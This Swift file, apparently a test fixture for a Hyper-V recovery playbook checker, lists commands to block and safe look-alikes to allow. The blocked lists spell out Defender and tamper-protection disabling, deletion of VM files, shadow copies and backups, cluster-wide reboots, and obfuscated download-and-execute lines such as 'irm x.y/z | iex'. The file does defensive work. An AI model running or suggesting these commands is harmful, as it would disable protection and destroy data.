/// Commands that no playbook may give to a person, and some that look like them and are right.
enum NeverCommands {
  static let bad =
    overwritingLists + tooMuchLeftOut + antivirusOff + filesOfMachines + chains
    + machineAndConfiguration + restoringOver + serviceAndHost + everyNodeAtOnce + hidden

  /// Lists of exclusions overwritten.
  static let overwritingLists = [
    #"Set-MpPreference -ExclusionPath 'D:\VMs'"#,
    #"set-mppreference   -exclusionpa 'D:\VMs'"#,
    "Set-MpPreference -ExclusionE vhdx",
    #"Defender\Set-MpPreference -ControlledFolderAccessAllowedApplications 'C:\Windows\System32\vmms.exe'"#,
  ]

  /// Too much left out.
  static let tooMuchLeftOut = [
    #"Add-MpPreference -ExclusionPath 'C:\'"#,
    "Add-MpPreference -ExclusionPath D:",
    #"Add-MpPreference -ExclusionPath 'D:\VMs','E:\'"#,
    #"Add-MpPreference -ExclusionPath:"%SystemDrive%""#,
    "Add-MpPreference -ExclusionPa $env:SystemDrive",
    #"Add-MpPreference -ExclusionPath 'C:\Users\'"#,
    "Add-MpPreference -ExclusionPath c:/windows",
    #"Add-MpPreference -ExclusionPath 'C:\Windows\System32'"#,
    #"Add-MpPreference -ExclusionPath @('C:\*')"#,
    #"Add-MpPreference -ExclusionPath 'D:\VMs\*.exe'"#,
    #"Add-MpPreference -ExclusionPath 'C:\ClusterStorage\*.*'"#,
    "Add-MpPreference -ExclusionExtension '.bin'",
    "Add-MpPreference -ExclusionE vhdx, exe",
    "Add-MpPreference -ExclusionExtension xml",
    "Add-MpPreference -ExclusionExtension '*.iso'",
    "Add-MpPreference -ExclusionProcess vmms.exe",
    #"Add-MpPreference -ExclusionProcess 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe'"#,
  ]

  /// The antivirus switched off.
  static let antivirusOff = [
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Set-MpPreference -DisableRealtimeM 1",
    "Set-MpPreference -DisableAutoExclusions:$true",
    "Set-MpPreference -DisableIOAVProtection $t",
    "Set-MpPreference -EnableControlledFolderAccess Disabled",
    "Stop-Service -Name WinDefend -Force",
    "sc.exe config WinDefend start= disabled",
    "net stop WinDefend",
    "Uninstall-WindowsFeature -Name Windows-Defender",
    "Dism /Online /Disable-Feature /FeatureName:Windows-Defender",
    #"reg add "HKLM\SOFTWARE\Microsoft\Windows Defender\Features" /v TamperProtection /t REG_DWORD /d 0 /f"#,
    #"Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows Defender\Features' -Name TamperProtection -Value 0"#,
    #"sp 'HKLM:\SOFTWARE\Microsoft\Windows Defender\Features' TamperProtection 0"#,
    "fltmc unload WdFilter",
  ]

  /// Files of VMs.
  static let filesOfMachines = [
    #"Remove-Item 'D:\VMs\FS01.vhdx'"#,
    #"Remove-Item -LiteralPath 'D:\VMs' -Recurse -Force"#,
    #"Get-ChildItem 'D:\VMs' -Filter *.avhdx | Remove-Item"#,
    #"Get-ChildItem 'D:\VMs' | ri -Recurse"#,
    #"del D:\VMs\FS01.vmgs"#,
    #"cmd /c rd /s /q D:\VMs"#,
    #"cmd.exe /c "erase D:\VMs\FS01.vmrs""#,
    #"rm D:\VMs\*.vmrs"#,
    #"if ($true) { rmdir 'D:\VMs' -Recurse }"#,
    #"[System.IO.File]::Delete('D:\VMs\FS01.avhdx')"#,
    #"(Get-Item 'D:\VMs\FS01.vmgs').Delete()"#,
    #"Get-ChildItem 'D:\VMs' | ForEach-Object Delete"#,
    #"Clear-Content 'D:\VMs\FS01.vmcx'"#,
    #"Set-Content -Path 'D:\VMs\FS01.vmcx' -Value ''"#,
    #"'' > 'D:\VMs\FS01.vmcx'"#,
    #"Rename-Item 'D:\VMs\FS01.avhdx' 'FS01.vhdx'"#,
    #"ren D:\VMs\FS01.avhdx FS01.vhdx"#,
    #"robocopy 'D:\Empty' 'D:\VMs' /MIR"#,
    #"robocopy 'D:\VMs' 'E:\VMs' /E /MOVE"#,
    "Format-Volume -DriveLetter D",
    "vssadmin delete shadows /all",
    "wbadmin delete backup -keepVersions:0",
  ]

  /// Chains.
  static let chains = [
    #"Set-VHD -Path 'D:\VMs\a.avhdx' -ParentPath 'D:\VMs\b.vhdx' -IgnoreIdMismatch"#,
    #"Set-VHD -Path 'D:\VMs\a.avhdx' -ParentPath 'D:\VMs\b.vhdx' -ig"#,
    #"Merge-VHD -Path 'D:\VMs\a.avhdx' -DestinationPath 'D:\VMs\b.vhdx'"#,
    #"Merge-VHD -Path 'D:\HV-Rescue\a.avhdx' -DestinationPath 'D:\VMs\b.vhdx'"#,
    #"Merge-VHD -Path 'D:\VMs\a.avhdx' -DestinationPath 'D:\VMs\b.vhdx' # HV-Rescue"#,
    #"Merge-VHD -Path 'D:\HV-Rescue\..\VMs\a.avhdx' -DestinationPath 'D:\HV-Rescue\..\VMs\b.vhdx'"#,
    #"Get-VHD 'D:\VMs\a.avhdx' | Merge-VHD"#,
    #"Resize-VHD -Path 'D:\VMs\b.vhdx' -SizeBytes 200GB"#,
    #"Convert-VHD -Path 'D:\VMs\b.vhd' -DestinationPath 'D:\VMs\b.vhdx' -DeleteS"#,
    #"Mount-VHD -Path 'D:\VMs\b.vhdx'"#,
    #"Mount-VHD -Path 'D:\VMs\b.vhdx' -ReadOnly:$false"#,
    #"Mount-DiskImage -ImagePath 'D:\VMs\b.vhdx'"#,
    #"New-VM -Name FS01 -VHDPath 'D:\VMs\b.vhdx'"#,
    #"Add-VMHardDiskDrive -VMName FS01 -Path 'D:\VMs\b.vhdx'"#,
  ]

  /// The VM and its configuration.
  static let machineAndConfiguration = [
    "Remove-VM -Name FS01 -Force",
    #"Get-VM FS01 | Hyper-V\Remove-VM"#,
    "& 'Remove-VM' FS01",
    #"Import-VM -Path 'D:\VMs\a.vmcx' -Copy -GenerateNewId"#,
    #"Import-VM -Path 'D:\VMs\a.vmcx' -Cop"#,
    #"Import-VM -Path 'D:\VMs\a.vmcx' -Generate"#,
    "Update-VMVersion -Name FS01",
    "Remove-ClusterGroup -Name FS01",
    "Remove-ClusterResource -Name 'Virtual Machine FS01'",
  ]

  /// Restore over what is there.
  static let restoringOver = [
    #"wbadmin start recovery -version:1 -itemtype:File -items:D:\VMs -overwrite:Overwrite -recoverytarget:D:\R"#,
    "wbadmin start recovery '-version:1' '-itemtype:App' '-items:Hyper-V'",
    "Start-WBHyperVRecovery -BackupSet $b -VMInBackup $b.Application[0].Component[0]",
    "Start-WBHyperVRecovery -BackupSet $b -VMInBackup $v -UseAlternateLocation:$false",
    #"Start-WBFileRecovery -BackupSet $b -SourcePath 'D:\VMs' -Option OverwriteIfExists"#,
  ]

  /// The service and the host.
  static let serviceAndHost = [
    "taskkill /f /im vmms.exe",
    "Stop-Process -Name vmms -Force",
    "Get-Process vmms | Stop-Process",
    "kill -Name vmms",
    "(Get-Process -Name vmms).Kill()",
    "wmic process where name='vmms.exe' call terminate",
    "Stop-Process -Name vmwp",
    "Stop-Process -Name vm*",
    "Restart-Computer",
    "Restart-Computer -ComputerName HV01 -Force",
    "shutdown /r /t 0",
    "shutdown.exe -r -f",
    "Stop-Computer",
    "(Get-WmiObject Win32_OperatingSystem).Reboot()",
  ]

  /// Every node at once.
  static let everyNodeAtOnce = [
    "Get-ClusterNode | Suspend-ClusterNode -Drain",
    "Get-ClusterNode | ForEach-Object { Invoke-Command -ComputerName $_.Name { Restart-Service vmms } }",
    "foreach ($n in Get-ClusterNode) { Suspend-ClusterNode -Name $n.Name -Drain }",
    "Invoke-Command -ComputerName (Get-ClusterNode).Name -ScriptBlock { Restart-Service -Name vmms }",
    "Invoke-Command -ComputerName HV01, HV02 { Restart-Service vmms }",
    "icm HV01,HV02 { restart-service vmms }",
    "'HV01','HV02' | ForEach-Object { Suspend-ClusterNode -Name $_ -Drain }",
    "Suspend-ClusterNode -Name HV01, HV02 -Drain",
    "Suspend-ClusterNode -Name HV01 -Drain -ForceDrain",
    "Suspend-ClusterNode -Name HV01 -Drain -F",
    "Stop-Cluster",
  ]

  /// What hides a command.
  static let hidden = [
    "Remove`-VM FS01",
    "Rem`ove-VM FS01",
    #"iex (Get-Content 'D:\a.txt')"#,
    "Invoke-Expression $x",
    "Invoke-WebRequest -Uri 'http://x/y.ps1' -OutFile y.ps1",
    "irm x.y/z | iex",
    "(New-Object Net.WebClient).DownloadString('x')",
    "Start-BitsTransfer -Source x",
    "powershell -enc SQBFAFgAIAAxADIAMwA0AA==",
    "& ('Remove' + '-VM') FS01",
    "& $cmd FS01",
    "Set-Alias x Remove-VMSavedState",
    "$p = @{ExclusionPath = 'E'}; Add-MpPreference @p",
    "Remove\u{2013}VM FS01",
    #"d^el D:\VMs\a.vhdx"#,
    #"icacls 'D:\VMs' /grant 'Everyone:(F)' /T"#,
    #"takeown /f D:\VMs /r"#,
    "Get-Service vmms\nRemove-VM FS01",
  ]

  /// What a recovery does, and must be let through.
  static let good = [
    #"& $checker -CheckExclusion -Path 'D:\MyVMs'"#,
    #"Dismount-VHD -Path 'D:\VMs\b.vhdx'"#,
    #"Add-MpPreference -ExclusionPath 'D:\MyVMs'"#,
    #"Add-MpPreference -ExclusionPath 'C:\ClusterStorage', 'C:\Windows\Cluster', 'C:\ClusterStorage\Volume1'"#,
    #"Add-MpPreference -ExclusionPath 'C:\Users\Public\Documents\Hyper-V\Virtual Hard Disks'"#,
    #"Add-MpPreference -ExclusionPath '\\?\Volume{{83843316-a7f8-4cf7-b8c3-003186740fbd}}\'"#,
    #"Add-MpPreference -ExclusionPath '\\FS01\VMs\Prod'"#,
    #"Add-MpPreference -ExclusionProcess 'C:\Windows\System32\vmms.exe', 'C:\Windows\System32\vmwp.exe'"#,
    "Add-MpPreference -ExclusionExtension vhd, vhdx, avhd, avhdx, vmcx, vmrs",
    #"Remove-MpPreference -ExclusionPath 'D:\MyVMs'"#,
    "Set-MpPreference -DisableAutoExclusions $false",
    "Set-MpPreference -ScanScheduleTime 03:00:00",
    "Get-MpPreference | Select-Object ExclusionPath, DisableAutoExclusions",
    #"& "$env:ProgramFiles\Windows Defender\MpCmdRun.exe" -CheckExclusion -path 'C:\'"#,
    #"reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Features" /v TPExclusions"#,
    "Restart-Service -Name vmms",
    "Get-Process -Name vmms, vmwp -ErrorAction SilentlyContinue",
    "if (Get-Process -Name vmwp -ErrorAction SilentlyContinue) { 'STOP: VMs still run' } else { Restart-Computer }",
    "Get-ClusterNode | Select-Object Name, State",
    "Get-ClusterNode | ForEach-Object { Get-VM -ComputerName $_.Name }",
    "Suspend-ClusterNode -Name 'HV01' -Drain -Wait",
    "Resume-ClusterNode -Name 'HV01' -Failback Immediate",
    #"Mount-VHD -Path 'D:\VMs\b.vhdx' -ReadOnly -NoDriveLetter -Passthru | Get-Disk"#,
    #"Mount-DiskImage -ImagePath 'D:\iso\a.iso'"#,
    #"Merge-VHD -Path 'D:\HV-Rescue\disks\a.avhdx' -DestinationPath 'D:\HV-Rescue\disks\b.vhdx'"#,
    #"Get-VHD -Path 'D:\VMs\a.avhdx' | Select-Object Path, ParentPath"#,
    #"Set-VHD -Path 'D:\HV-Rescue\disks\a.avhdx' -ParentPath 'D:\HV-Rescue\disks\b.vhdx'"#,
    #"New-VM -Name 'FS01' -Generation 2 -MemoryStartupBytes 8GB -VHDPath 'D:\HV-Rescue\disks\b.vhdx' -Path 'D:\VMs'"#,
    #"Compare-VM -Path 'D:\VMs\a.vmcx' -Register | Select-Object -ExpandProperty Incompatibilities"#,
    #"Import-VM -Path 'D:\VMs\a.vmcx' -Register"#,
    "Remove-VMSavedState -VMName 'FS01'",
    #"robocopy 'D:\VMs' 'E:\HV-Rescue\vm' /E /COPYALL /R:1 /W:1 /XC /XN /XO"#,
    #"icacls 'D:\VMs\a.vhdx' /grant 'NT VIRTUAL MACHINE\ID:(F)'"#,
    #"icacls 'D:\VMs\a.vhdx' /remove 'NT VIRTUAL MACHINE\ID'"#,
    #"wbadmin start recovery '-version:1' '-items:D:\VMs' -itemtype:File -recursive -overwrite:CreateCopy '-recoverytarget:D:\HV-Restore'"#,
    #"Start-WBHyperVRecovery -BackupSet $b -VMInBackup $b.Application[0].Component[0] -TargetPath 'D:\R' -UseAlternateLocation -RecreatePath"#,
    #"Get-ChildItem -LiteralPath 'D:\VMs' -Recurse -Include *.vmcx, *.avhdx | Select-Object FullName, Length"#,
    #"Get-VM | Export-Clixml -Path 'D:\HV-Rescue\vms.xml'"#,
    #"wevtutil epl 'Microsoft-Windows-Hyper-V-VMMS-Admin' 'D:\HV-Rescue\vmms-admin.evtx'"#,
    #"Move-VMStorage -VMName 'FS01' -VirtualMachinePath 'C:\ClusterStorage\Volume1\FS01'"#,
    #"fltmc instances -v 'C:\ClusterStorage\Volume1'"#,
    "Stop-VM -Name 'FS01'",
    "Invoke-Command -ComputerName HV01, HV02 { Get-Service vmms }",
    "Stop-Process -Id '<number>'",
  ]
}
